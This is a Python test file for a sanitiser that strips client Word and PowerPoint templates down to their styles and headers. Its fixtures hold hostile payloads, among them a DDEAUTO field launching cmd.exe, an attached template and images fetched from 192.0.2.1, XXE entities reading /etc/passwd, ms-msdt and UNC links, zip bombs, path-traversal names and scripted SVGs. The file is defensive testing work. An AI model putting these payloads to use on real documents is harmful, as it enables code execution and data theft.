"""A client's template gives its looks and nothing else: it cannot run, fetch or read anything."""

import io
import struct
import zipfile

import docx
import pptx
import pytest

from reports.office_template import Kind, TemplateRefused, opened
from tests.reports import office_files as files

HEADER = "word/header1.xml"
OFFICE = "urn:schemas-microsoft-com:office:office"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
VML = "urn:schemas-microsoft-com:vml"


def refused(content: bytes, kind: Kind = "word") -> str:
    with pytest.raises(TemplateRefused) as caught:
        opened(content, kind)
    sentence = caught.value.sentence
    assert sentence == str(caught.value)
    assert sentence.endswith(".")
    return sentence


def field(*pieces: str) -> str:
    marks = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return begin + marks + end


# What is kept


def test_a_word_template_keeps_its_styles_and_head_and_loses_its_text() -> None:
    document = docx.Document(io.BytesIO(opened(files.word(), "word")))
    assert document.styles["Heading 1"].font.name == "Georgia"
    assert document.sections[0].header.paragraphs[0].text == "Northwind house style"
    assert len(document.sections[0].header.part.related_parts) == 1
    assert "Secret" not in "".join(part.text for part in document.paragraphs)


def test_no_part_of_the_last_client_is_carried_over() -> None:
    def remember(document: "docx.document.Document") -> None:
        document.core_properties.author = "Secret author"

    content = files.with_part(
        files.word(remember), "customXml/item9.xml", b"<secret>Secret</secret>",
        content_type="application/xml", related=("word/document.xml", "rId90", f"{files.REL}/customXml"),
    )  # fmt: skip
    kept = files.unzipped(opened(content, "word"))
    assert not [name for name, data in kept.items() if b"Secret" in data]


def test_a_dotx_opens_as_a_document() -> None:
    content = files.retyped(files.word(), "document.main+xml", "template.main+xml")
    assert docx.Document(io.BytesIO(opened(content, "word"))).styles["Title"]


def test_a_potx_keeps_its_layouts_and_loses_its_slides() -> None:
    content = files.retyped(files.slides(), "presentation.main+xml", "template.main+xml")
    clean = opened(content, "slides")
    deck = pptx.Presentation(io.BytesIO(clean))
    assert len(deck.slide_layouts) == 11
    assert len(deck.slides) == 0
    assert not [name for name, data in files.unzipped(clean).items() if b"Secret" in data]
    deck.slides.add_slide(deck.slide_layouts[0])


def test_a_head_that_a_later_section_takes_over_is_kept() -> None:
    def two_sections(document: "docx.document.Document") -> None:
        document.add_section()

    document = docx.Document(io.BytesIO(opened(files.word(two_sections), "word")))
    assert len(document.sections) == 1
    assert document.sections[0].header.paragraphs[0].text == "Northwind house style"


def test_the_same_template_gives_the_same_bytes_and_passes_again() -> None:
    clean = opened(files.word(), "word")
    assert opened(files.word(), "word") == clean
    assert docx.Document(io.BytesIO(opened(clean, "word")))


def test_page_numbers_and_a_link_to_the_clients_site_are_kept() -> None:
    link = (
        f'<w:hyperlink r:id="rId77" xmlns:r="{files.REL}"><w:r><w:t>site</w:t></w:r></w:hyperlink>'
    )
    content = files.in_head(files.word(), field(" PA", "GE ") + link)
    content = files.with_part(
        content, "", b"", related=(HEADER, "rId77", f"{files.REL}/hyperlink"), outside=True,
        target="https://www.example.org/",
    )  # fmt: skip
    kept = files.unzipped(opened(content, "word"))
    assert b"GE " in kept[HEADER]
    assert b"https://www.example.org/" in kept["word/_rels/header1.xml.rels"]


# Programs


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (
            f"{files.WORD_TYPE}document.main+xml",
            "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
        ),
        (
            f"{files.WORD_TYPE}document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
    ],
)
def test_dotm_and_docm_are_refused(old: str, new: str) -> None:
    assert "macros" in refused(files.retyped(files.word(), old, new))


@pytest.mark.parametrize(
    "name", ["word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/harmless.bin"]
)
def test_a_macro_project_is_refused_under_any_name(name: str) -> None:
    content = files.with_part(
        files.word(), name, b"\xd0\xcf", content_type="application/vnd.ms-office.vbaProject",
        related=("word/document.xml", "rId80", "http://schemas.microsoft.com/office/2006/relationships/vbaProject"),
    )  # fmt: skip
    assert "macros" in refused(content)


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        (
            "word/embeddings/oleObject1.bin",
            "application/vnd.openxmlformats-officedocument.oleObject",
        ),
        ("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
        ("word/embeddings/tool.exe", "application/octet-stream"),
    ],
)
def test_embedded_objects_and_controls_are_refused(name: str, kind: str) -> None:
    assert "embedded object" in refused(
        files.with_part(files.word(), name, b"MZ", content_type=kind)
    )


@pytest.mark.parametrize(
    "xml",
    [
        f'<w:object><o:OLEObject xmlns:o="{OFFICE}" Type="Link" ProgID="Package"/></w:object>',
        '<w:control w:name="x"/>',
        f'<w:subDoc r:id="rId1" xmlns:r="{files.REL}"/>',
    ],
)
def test_an_object_in_a_head_is_refused(xml: str) -> None:
    assert "embedded object or control" in refused(files.in_head(files.word(), f"<w:r>{xml}</w:r>"))


def test_a_ribbon_of_its_own_and_add_ins_are_left_out() -> None:
    content = files.word()
    for name, kind in (
        ("customUI/customUI.xml", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility"),
        ("word/webextensions/taskpanes.xml", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"),
    ):  # fmt: skip
        content = files.with_part(
            content, name, b"<x onLoad='Run'/>", content_type="application/xml",
            related=("", f"rId{len(name)}", kind),
        )  # fmt: skip
    kept = files.unzipped(opened(content, "word"))
    assert not [name for name in kept if "customUI" in name or "webext" in name]


@pytest.mark.parametrize(
    "action", ["ppaction://program", "ppaction://macro?name=x", "PPACTION://OLE?verb=0"]
)
def test_a_shape_that_starts_a_program_is_refused(action: str) -> None:
    deck = pptx.Presentation(io.BytesIO(files.slides()))
    shape = deck.slide_master.shapes[0]
    properties = shape._element.xpath(".//p:cNvPr")[0]
    click = properties.makeelement(f"{{{DRAWING}}}hlinkClick", {"action": action})
    click.set(f"{{{files.REL}}}id", "")
    properties.append(click)
    content = io.BytesIO()
    deck.save(content)
    assert "starts something" in refused(content.getvalue(), "slides")


# Fields


@pytest.mark.parametrize(
    "pieces",
    [
        (' DDEAUTO c:\\\\windows\\\\cmd.exe "/k x" ',),
        (" DD", "EAU", "TO cmd x "),
        (" DDE Excel file ",),
        (' INCLUDEPICTURE "http://192.0.2.1/x.png" ',),
        (" INCLUDETEXT c:\\\\secret.txt ",),
        (" MACROBUTTON Run click ",),
        (" QUOTE 68 68 69 ",),
        (' HYPERLINK "file://192.0.2.1/share" ',),
        ("",),
        (field(" PAGE ") + " = 1 ",),
    ],
)
def test_a_field_that_runs_or_reads_is_refused(pieces: tuple[str, ...]) -> None:
    xml = field(*pieces)
    if "fldChar" in pieces[0]:
        xml = (
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + field(" PAGE ")
            + '<w:r><w:instrText> = 1 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        )  # fmt: skip
    assert "field" in refused(files.in_head(files.word(), xml))


def test_a_simple_field_is_read_too() -> None:
    xml = '<w:fldSimple w:instr="DDEAUTO cmd x"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
    assert "“DDEAUTO”" in refused(files.in_head(files.word(), xml))


def test_an_instruction_written_as_text_is_read_too() -> None:
    xml = field("").replace("<w:instrText></w:instrText>", "<w:t>DDEAUTO cmd x</w:t>")
    assert "“DDEAUTO”" in refused(files.in_head(files.word(), xml))


# What would be fetched


def test_the_template_that_a_template_is_attached_to_is_forgotten() -> None:
    content = files.with_part(
        files.word(), "", b"", outside=True, target="http://192.0.2.1/evil.dotm",
        related=("word/settings.xml", "rId1", f"{files.REL}/attachedTemplate"),
    )  # fmt: skip
    parts = files.unzipped(content)
    attached = f'<w:attachedTemplate r:id="rId1" xmlns:r="{files.REL}"/></w:settings>'
    content = files.zipped(files.changed(parts, "word/settings.xml", "</w:settings>", attached))
    kept = files.unzipped(opened(content, "word"))
    assert not [name for name, data in kept.items() if b"192.0.2.1" in data]
    assert b"attachedTemplate" not in kept["word/settings.xml"]


def test_a_picture_from_elsewhere_is_refused() -> None:
    content = files.with_part(
        files.word(), "", b"", outside=True, target="http://192.0.2.1/pixel.png",
        related=(HEADER, "rId70", f"{files.REL}/image"),
    )  # fmt: skip
    blip = f'<w:r><a:blip xmlns:a="x" xmlns:r="{files.REL}" r:link="rId70"/></w:r>'
    assert "insert the picture itself" in refused(files.in_head(content, blip))


def test_a_picture_from_elsewhere_in_the_old_drawing_language_is_refused() -> None:
    picture = '<v:imagedata src="\\\\192.0.2.1\\x.png"/>'
    xml = f'<w:r><w:pict><v:shape xmlns:v="{VML}">{picture}</v:shape></w:pict></w:r>'
    assert "from elsewhere" in refused(files.in_head(files.word(), xml))


@pytest.mark.parametrize(
    "target",
    ["file:///etc/passwd", "\\\\192.0.2.1\\share", "ms-msdt:/id", "https://a:b@example.org/"],
)
def test_a_link_to_anything_but_a_page_or_mail_is_refused(target: str) -> None:
    content = files.with_part(
        files.word(), "", b"", outside=True, target=target,
        related=(HEADER, "rId70", f"{files.REL}/hyperlink"),
    )  # fmt: skip
    link = f'<w:hyperlink r:id="rId70" xmlns:r="{files.REL}"><w:r><w:t>x</w:t></w:r></w:hyperlink>'
    assert "link of the template" in refused(files.in_head(content, link))


def test_what_a_head_needs_and_a_report_cannot_hold_is_named() -> None:
    content = files.with_part(
        files.word(), "word/charts/chart1.xml", b"<c/>", content_type="application/xml",
        related=(HEADER, "rId70", f"{files.REL}/chart"),
    )  # fmt: skip
    xml = f'<w:r><c:chart xmlns:c="x" xmlns:r="{files.REL}" r:id="rId70"/></w:r>'
    assert "“chart”" in refused(files.in_head(content, xml))


# XML


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize(
    "name", ["word/styles.xml", "[Content_Types].xml", "word/_rels/document.xml.rels"]
)
def test_a_document_type_is_refused_wherever_it_stands(name: str, encoding: str) -> None:
    parts = files.unzipped(files.word())
    text = parts[name].decode()
    body = text[text.index("?>") + 2 :]
    evil = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    parts[name] = f'<?xml version="1.0" encoding="{encoding}"?>{evil}{body}'.encode(encoding)
    assert "document type" in refused(files.zipped(parts))


def test_entities_that_grow_are_never_looked_at() -> None:
    parts = files.unzipped(files.word())
    laughs = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(12)
    )
    parts["word/styles.xml"] = f"<!DOCTYPE x [{laughs}]><x>&l11;</x>".encode()
    assert "document type" in refused(files.zipped(parts))


def test_a_part_that_is_too_deep_is_refused() -> None:
    parts = files.unzipped(files.word())
    parts["word/styles.xml"] = b"<a>" * 5000 + b"</a>" * 5000
    assert "too large or too deep" in refused(files.zipped(parts))


# The archive


@pytest.mark.parametrize(
    "name", ["../evil.xml", "/etc/evil", "word\\evil.xml", "c:evil", "word//x", "word/./x"]
)
def test_names_that_lead_out_of_the_file_are_refused(name: str) -> None:
    buffer = io.BytesIO(files.word())
    with zipfile.ZipFile(buffer, "a") as archive:
        info = zipfile.ZipInfo("x")
        info.filename = info.orig_filename = name
        archive.writestr(info, "x")
    assert "leads out" in refused(buffer.getvalue())


def test_two_parts_of_one_name_are_refused() -> None:
    buffer = io.BytesIO(files.word())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("Word/Document.xml", "x")
    assert "same name" in refused(buffer.getvalue())


def test_a_bomb_is_refused_by_what_it_says_and_by_what_it_holds() -> None:
    bomb = files.with_part(files.word(), "word/media/image9.png", b"\0" * (100 * 2**20))
    assert "inflates to more than" in refused(bomb)
    assert "take pages, slides and large pictures out of it" in refused(bomb)
    real, told = 40 * 2**20, 10
    bomb = files.with_part(files.word(), "word/media/image9.png", b"\0" * real)
    lied = bomb.replace(struct.pack("<L", real), struct.pack("<L", told))
    assert lied != bomb
    assert refused(lied)


def test_thousands_of_parts_are_refused() -> None:
    parts = files.unzipped(files.word()) | {f"word/media/{n}.png": b"" for n in range(2000)}
    assert "more than" in refused(files.zipped(parts))


@pytest.mark.parametrize(
    "content", [b"", b"PK\x03\x04", b"%PDF-1.7", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600]
)
def test_what_is_no_template_is_refused(content: bytes) -> None:
    assert refused(content)


def test_the_other_program_is_named() -> None:
    assert "no file of Word: use .dotx" in refused(files.slides())
    assert "no file of PowerPoint: use .potx" in refused(files.word(), "slides")


def test_a_file_that_only_calls_itself_a_picture_is_refused() -> None:
    parts = files.unzipped(files.word())
    name = next(item for item in parts if item.endswith(".png"))
    assert "something else" in refused(files.zipped({**parts, name: b"MZ program"}))


@pytest.mark.parametrize(
    "inside",
    [
        "<script>x</script>",
        '<image href="http://192.0.2.1/x.png"/>',
        '<g onload="x"/>',
        "<style>@import 'http://192.0.2.1'</style>",
        '<rect fill="url(http://192.0.2.1/)"/>',
    ],
)
def test_a_drawing_that_runs_or_loads_is_refused(inside: str) -> None:
    parts = files.unzipped(files.word())
    name = next(item for item in parts if item.endswith(".png"))
    svg = f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'.encode()
    parts = files.changed(parts, "[Content_Types].xml", "image/png", "image/svg+xml")
    assert "runs or loads" in refused(files.zipped({**parts, name: svg}))


def test_shapes_alone_are_a_drawing() -> None:
    parts = files.unzipped(files.word())
    name = next(item for item in parts if item.endswith(".png"))
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(#a)"/></svg>'
    parts = files.changed(parts, "[Content_Types].xml", "image/png", "image/svg+xml")
    assert b"<rect" in files.unzipped(opened(files.zipped({**parts, name: svg}), "word"))[name]


def test_text_of_notes_is_left_out() -> None:
    notes = (
        f'<w:footnotes xmlns:w="{files.W}"><w:footnote w:type="separator" w:id="-1"/>'
        '<w:footnote w:id="2"><w:p><w:r><w:t>Secret</w:t></w:r></w:p></w:footnote></w:footnotes>'
    )
    content = files.with_part(
        files.word(), "word/footnotes.xml", notes.encode(),
        content_type=f"{files.WORD_TYPE}footnotes+xml",
        related=("word/document.xml", "rId90", f"{files.REL}/footnotes"),
    )  # fmt: skip
    kept = files.unzipped(opened(content, "word"))["word/footnotes.xml"]
    assert b"separator" in kept
    assert b"Secret" not in kept
